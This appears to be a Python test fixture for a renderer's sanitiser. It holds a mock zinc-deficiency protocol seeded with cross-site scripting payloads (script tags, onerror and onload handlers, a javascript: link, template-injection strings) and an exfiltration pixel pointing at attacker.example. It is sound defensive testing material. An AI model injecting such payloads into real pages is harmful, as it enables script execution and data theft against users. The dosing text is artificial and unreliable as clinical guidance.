"""A document whose author attacks the reader's browser."""

HOSTILE = """---
id: zinc-deficiency
title: 'Zinc deficiency <img src=x onerror="window.owned=1"> <script>window.owned=1</script>'
version: '1 <svg onload="window.owned=1">'
owner: 'Dietetics'
type: protocol
specialty: '<b onmouseover="window.owned=1">Nutrition</b>'
population: adult
site: '<iframe srcdoc="x">'
effective: 2025-01-01
review: 2100-01-01
source: 'written for the tests'
licence: Apache-2.0
---

# Zinc deficiency

## Replacement <img src=x onerror="window.owned=1">

Give zinc sulfate 220 mg orally once daily for zinc deficiency \\<script>window.owned=1\\</script>.

Take zinc sulfate with food ![pixel](https://attacker.example/zinc.png?q=secret) and see
[the zinc deficiency leaflet](javascript:window.owned=1) for zinc sulfate side effects.

Zinc sulfate replacement in zinc deficiency lasts 90 days ${window.owned=1} {{window.owned}} `x`.

| Zinc deficiency | Zinc sulfate dose |
| --- | --- |
| Severe \\<img src=x onerror="window.owned=1"> | 220 mg "><svg onload="window.owned=1"> |
"""
